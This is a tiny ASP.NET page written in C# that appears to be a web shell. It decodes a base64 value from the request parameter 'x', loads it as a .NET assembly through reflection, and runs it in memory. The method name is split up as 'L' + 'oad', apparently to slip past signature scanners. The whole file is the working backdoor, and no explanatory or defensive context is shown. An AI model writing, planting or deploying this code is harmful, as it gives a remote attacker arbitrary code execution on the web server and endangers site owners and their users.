<%@ Page Language="C#" %>
<%
    var t = typeof(System.Reflection.Assembly);
    var m = t.GetMethod("L" + "oad", new Type[] { typeof(byte[]) });
    var a = (System.Reflection.Assembly)m.Invoke(null, new object[] { Convert.FromBase64String(Request["x"]) });
    a.CreateInstance(a.GetTypes()[0].FullName).Equals(this);
%>
